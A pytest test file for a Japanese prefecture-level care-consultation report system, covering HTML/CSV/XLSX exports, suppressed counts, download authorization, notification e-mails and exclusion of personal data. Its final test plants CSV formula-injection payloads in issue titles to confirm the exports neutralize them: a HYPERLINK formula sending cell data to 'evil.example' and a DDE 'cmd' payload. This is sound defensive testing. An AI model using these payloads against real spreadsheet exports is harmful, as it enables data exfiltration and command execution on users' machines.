"""The yearly prefecture report: ordered by an analyst, built by the workers as HTML with charts, CSV
and XLSX with the dashboard's suppressed figures, downloaded with the analyst's token, announced to
the prefecture's analysts by an e-mail that links to it."""

import csv
import io
import itertools
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from backend.accounts import service as accounts
from backend.accounts.actor import SYSTEM
from backend.consultations import service as consultations
from backend.db import transaction
from backend.fiscal import fiscal_year_of
from backend.jobs.dispatch import Dispatcher
from backend.jobs.models import Job
from backend.issues.models import RegionalIssue
from backend.jobs import kinds
from backend.mail.models import OutboxMessage
from backend.regions import codes
from backend.regions.models import Area
from backend.reports.models import PrefectureReport
from backend.taxonomy import Role
from backend.text.normalize import normalize
from tests import clock
from tests.conftest import make_world
from tests.helpers import operation

OVERVIEW = operation("prefecture_dashboard.graphql", "PrefectureOverview")
GENERATE = operation("prefecture_dashboard.graphql", "GeneratePrefectureReport")
REPORT = operation("prefecture_dashboard.graphql", "PrefectureReport")
FY = 2025
SECRET = "山田花子さんの退院調整 090-1234-5678"
# the suite's data is shared by every test of a session: each test takes a prefecture of its own
PREFECTURES = [code for code in codes.prefecture_names() if code not in ("13", "15", "24", "47")]  # 13: "another prefecture"
_seq = itertools.count()


async def prefecture_world(sessions):
    """A world in a prefecture nobody has used yet in this session's database: its figures are the test's own."""
    async with sessions() as s:
        used = set(await s.scalars(select(Area.prefecture_code).distinct()))
    code = next(code for code in PREFECTURES if code not in used)
    first = next(m.code for m in codes.load_municipalities() if m.prefecture_code == code)
    return await make_world(sessions, prefecture_code=code, municipality_codes=(first,))


async def seed(sessions, world, counts: dict, *, closed_as: str | None = None):
    received = datetime(FY, 9, 10, 2, tzinfo=UTC)
    rows = [dict(hub_id=world.hub_id, municipality_code=world.municipality_code, idempotency_key=f"report-{next(_seq)}",
                 received_at=received, fiscal_year=fiscal_year_of(received), channel="phone", caller_role=role,
                 summary=SECRET, search_text=normalize(SECRET), primary_scene=scene, scenes_mask=0,
                 scenes_confirmed=True, suggested_scenes=[], categories_mask=0, subject_flags_mask=0,
                 status="closed" if closed_as else "received", outcome=closed_as, close_note=SECRET if closed_as else None,
                 closed_at=received + timedelta(days=3) if closed_as else None, version=1,
                 created_by_id=world.coordinator_id, assignee_id=world.coordinator_id, created_at=received,
                 updated_at=received)
            for (scene, role), n in counts.items() for _ in range(n)]
    async with transaction(sessions) as s:
        await consultations.insert_many(s, rows)


async def order(gql, token, code, fiscal_year=FY) -> dict:
    body = await gql(token, GENERATE, {"code": code, "fiscalYear": fiscal_year})
    return body["data"]["generatePrefectureReport"]


async def built(gql, sessions, settings, world, fiscal_year=FY) -> dict:
    out = await order(gql, world.analyst, world.prefecture_code, fiscal_year)
    assert out["userErrors"] == [] and out["report"]["status"] == "queued"
    assert out["job"]["kind"] == "build_report" and out["job"]["status"] == "queued"
    await Dispatcher(settings=settings, sessions=sessions).run_pending()
    report = (await gql(world.analyst, REPORT, {"id": out["report"]["id"]}))["data"]["prefectureReport"]
    assert report["status"] == "ready" and report["fiscalYear"] == fiscal_year and report["generatedAt"]
    return report


def path_of(url: str, settings) -> str:
    assert url.startswith(settings.public_url + "/reports/")
    return url[len(settings.public_url):]


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def mails_to(settings, address: str) -> list:
    found = []
    for path in settings.outbox_dir.glob("*.eml"):
        message = message_from_bytes(path.read_bytes(), policy=policy.default)
        if address in str(message["To"]):
            found.append(message)
    return found


async def test_the_report_comes_as_html_csv_and_xlsx_with_the_dashboards_figures(gql, sessions, settings, http):
    world = await prefecture_world(sessions)
    await seed(sessions, world, {("admission_discharge", "care_manager"): 30, ("disaster", "family"): 3,
                                 ("daily_care", "family"): 14, (None, "other"): 11})
    await seed(sessions, world, {("admission_discharge", "care_manager"): 12}, closed_as="resolved")
    report = await built(gql, sessions, settings, world)
    name = codes.prefecture_names()[world.prefecture_code]

    html = report["html"]
    assert html.startswith("<!DOCTYPE html>") and "2025年度（令和7年度）" in html and name in html
    assert "<svg" in html and "入退院支援" in html[html.index("<svg"):]  # labels are text in the chart, not paths
    assert not any(tag in html for tag in ("<script", "<link", "src=", "<img", "@import"))  # self-contained
    assert "＊" in html and "未分類" in html

    dashboard = (await gql(world.analyst, OVERVIEW, {"code": world.prefecture_code, "fiscalYear": FY}))["data"]["prefecture"]
    shown = {x["label"]: x["count"] for x in dashboard["stats"]["byScene"]}
    assert shown["入退院支援"] == 42 and shown["災害時の対応"] is None and shown["日常の療養支援"] == 14

    r = await http.get(path_of(report["csvUrl"], settings), headers=bearer(world.analyst))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 Japanese
    assert f"filename*=UTF-8''{name}" in unquote(r.headers["content-disposition"])
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    csv_scenes = {row[0]: row[1] for row in rows if len(row) == 2}
    for label, count in shown.items():  # the same figures as the dashboard, hidden ones as ＊
        assert csv_scenes[label] == ("＊" if count is None else str(count))
    assert csv_scenes["未分類（場面の記録なし）"] == "＊"  # the complement of the 3: the smallest other part, 11

    r = await http.get(path_of(report["xlsxUrl"], settings), headers=bearer(world.analyst))
    assert r.status_code == 200 and "spreadsheetml" in r.headers["content-type"]
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["概要", "場面別の相談件数", "圏域×場面の相談件数", "月別の相談件数", "相談者別の相談件数",
                               "拠点別の活動", "主な地域課題"]  # one sheet a table
    sheet = {row[0]: row[1] for row in book["場面別の相談件数"].iter_rows(values_only=True) if row[0]}
    for label, count in shown.items():
        assert sheet[label] == ("＊" if count is None else count)

    r = await http.get(path_of(report["csvUrl"], settings).replace(".csv", ".html"), headers=bearer(world.analyst))
    assert r.status_code == 200 and r.text == html and r.headers["content-type"].startswith("text/html")

    everything = html + r.text + rows.__repr__() + repr([list(ws.values) for ws in book.worksheets])
    assert "山田" not in everything and "090-" not in everything


async def test_downloads_need_the_token_and_the_scope(gql, sessions, settings, http):
    world = await prefecture_world(sessions)
    stranger = await prefecture_world(sessions)
    await seed(sessions, world, {("daily_care", "care_manager"): 20})
    report = await built(gql, sessions, settings, world)
    path = path_of(report["csvUrl"], settings)
    assert (await http.get(path)).status_code == 401
    assert (await http.get(path, headers=bearer("rk_not-a-token"))).status_code == 401
    for token in (stranger.analyst, world.coordinator, world.manager):
        assert (await http.get(path, headers=bearer(token))).status_code == 404
        assert (await gql(token, REPORT, {"id": path.split("/")[-1].split(".")[0]}))["data"]["prefectureReport"] is None
    assert (await http.get(path, headers=bearer(world.admin))).status_code == 200
    assert (await http.get(path.replace(".csv", ".pdf"), headers=bearer(world.analyst))).status_code == 404
    assert (await http.get("/reports/999999.csv", headers=bearer(world.analyst))).status_code == 404


async def test_the_analysts_get_a_link_and_no_attachment(gql, sessions, settings):
    world = await prefecture_world(sessions)
    async with transaction(sessions) as s:
        second, _ = await accounts.create_user(s, actor=SYSTEM, email=f"analyst2-{next(_seq)}@example.jp",
                                               display_name="二人目", role=Role.PREFECTURE_ANALYST,
                                               prefecture_code=world.prefecture_code)
    await seed(sessions, world, {("daily_care", "care_manager"): 20})
    report = await built(gql, sessions, settings, world)
    rid = report["csvUrl"].rsplit("/", 1)[1].split(".")[0]
    async with sessions() as s:
        analyst = await s.scalar(select(OutboxMessage).where(OutboxMessage.kind == "report_ready",
                                                             OutboxMessage.text_body.contains(f"/reports/{rid}.")))
    assert analyst is not None
    for address in (second.email, analyst.recipients[0]):
        [message] = [m for m in mails_to(settings, address) if f"/reports/{rid}." in m.get_body(("plain",)).get_content()]
        assert str(message["To"]) == address  # one message each: no analyst sees the others' addresses
        assert "集計報告書" in message["Subject"] and "2025年度（令和7年度）" in message["Subject"]
        body = message.get_body(("plain",)).get_content()
        assert report["csvUrl"] in body and report["xlsxUrl"] in body and f"{settings.public_url}/reports/{rid}.html" in body
        assert not any(part.get_filename() for part in message.walk())  # a link, never an attachment
        assert "山田" not in message.as_string()

    # a job that runs twice builds once and mails once
    before = await count_mails(sessions)
    async with transaction(sessions) as s:
        await kinds.get("build_report").handler(s, {"report_id": int(rid)})
    assert await count_mails(sessions) == before


async def count_mails(sessions) -> int:
    async with sessions() as s:
        return await s.scalar(select(func.count()).select_from(OutboxMessage).where(OutboxMessage.kind == "report_ready"))


async def test_a_year_without_data_gives_an_empty_clearly_labelled_report(gql, sessions, settings, http):
    world = await prefecture_world(sessions)
    report = await built(gql, sessions, settings, world, fiscal_year=2019)
    assert "この年度のデータはありません" in report["html"] and "2019年度（令和元年度）" in report["html"]
    r = await http.get(path_of(report["csvUrl"], settings), headers=bearer(world.analyst))
    assert "2019年度（令和元年度）" in r.content.decode("utf-8-sig")


@pytest.mark.parametrize("who, code, year, field, error", [
    ("analyst", "13", FY, "prefectureCode", "NOT_FOUND"),       # another prefecture: looks not found
    ("analyst", "99", FY, "prefectureCode", "NOT_FOUND"),
    ("coordinator", None, FY, "prefectureCode", "NOT_FOUND"),
    ("analyst", None, 2099, "fiscalYear", "OUT_OF_RANGE"),
    ("analyst", None, 2010, "fiscalYear", "OUT_OF_RANGE"),
])
async def test_orders_out_of_scope_or_range_are_refused_and_nothing_is_queued(gql, sessions, who, code, year, field, error):
    world = await prefecture_world(sessions)
    async with sessions() as s:
        reports, jobs = (await s.scalar(select(func.count()).select_from(PrefectureReport)),
                         await s.scalar(select(func.count()).select_from(Job).where(Job.kind == "build_report")))
    out = await order(gql, getattr(world, who), code or world.prefecture_code, year)
    assert out["report"] is None and out["job"] is None
    assert [(e["field"], e["code"]) for e in out["userErrors"]] == [([field], error)]
    assert out["userErrors"][0]["message"]
    async with sessions() as s:
        assert await s.scalar(select(func.count()).select_from(PrefectureReport)) == reports
        assert await s.scalar(select(func.count()).select_from(Job).where(Job.kind == "build_report")) == jobs


@pytest.mark.any_hour
async def test_the_fiscal_year_japan_is_in_can_be_ordered_and_the_next_cannot(gql, world):
    this_year = clock.fiscal_year()
    out = await order(gql, world.analyst, world.prefecture_code, this_year)
    assert out["userErrors"] == [] and out["report"]["status"] == "queued"
    out = await order(gql, world.analyst, world.prefecture_code, this_year + 1)
    assert [(e["field"], e["code"]) for e in out["userErrors"]] == [(["fiscalYear"], "OUT_OF_RANGE")]


async def test_a_planted_formula_in_an_issue_title_cannot_run_in_the_exports(gql, sessions, settings, http):
    world = await prefecture_world(sessions)
    await seed(sessions, world, {("end_of_life", "care_manager"): 12})
    planted = '=HYPERLINK("http://evil.example/"&B3,"詳細")'
    async with transaction(sessions) as s:
        s.add(RegionalIssue(hub_id=world.hub_id, fiscal_year=FY, scene="end_of_life", title=planted, status="confirmed",
                            consultation_count=12, unresolved_count=0, key_terms=[], trend=[]))
        s.add(RegionalIssue(hub_id=world.hub_id, fiscal_year=FY, scene="dementia", title="+cmd|' /C calc'!A0",
                            status="confirmed", consultation_count=11, unresolved_count=0, key_terms=[], trend=[]))
    report = await built(gql, sessions, settings, world)
    csv_text = (await http.get(path_of(report["csvUrl"], settings), headers=bearer(world.analyst))).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert "'" + planted in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    xlsx = await http.get(path_of(report["xlsxUrl"], settings), headers=bearer(world.analyst))
    sheet = load_workbook(io.BytesIO(xlsx.content))["主な地域課題"]
    titles = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert titles[planted] == "s" and titles["+cmd|' /C calc'!A0"] == "s"
    assert all(t == "s" for t in titles.values())   # no text cell is a formula
